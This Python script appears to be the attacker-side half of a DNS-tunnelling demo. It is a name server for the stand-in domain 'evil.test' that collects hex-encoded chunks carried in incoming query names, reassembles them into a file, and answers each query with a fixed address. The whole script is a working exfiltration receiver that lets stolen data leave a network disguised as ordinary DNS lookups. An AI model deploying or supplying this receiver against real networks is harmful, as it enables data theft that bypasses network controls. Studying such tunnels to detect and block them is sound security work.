"""The other end of the demo's tunnel: the name server of evil.test, which keeps what the names say.

name_server.py ADDRESS FILE   each query "NUMBER.HEX.evil.test" is a piece of FILE; piece 0 begins it anew
"""
import socket
import sys

address, path = sys.argv[1:]
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind((address, 53))
print("up", flush=True)
pieces = {}
while True:
    query, client = server.recvfrom(4096)
    labels, at = [], 12
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode())
        at += 1 + query[at]
    if labels[2:] == ["evil", "test"]:
        if labels[0] == "0":
            pieces = {}
        pieces[int(labels[0])] = bytes.fromhex(labels[1])
        with open(path, "wb") as file:
            file.write(b"".join(pieces[number] for number in sorted(pieces)))
    # 203.0.113.9, for a minute.
    question = query[12:at + 5]
    server.sendto(query[:2] + bytes.fromhex("858000010001 00000000") + question +
                  bytes.fromhex("c00c 0001 0001 0000003c 0004 cb007109"), client)
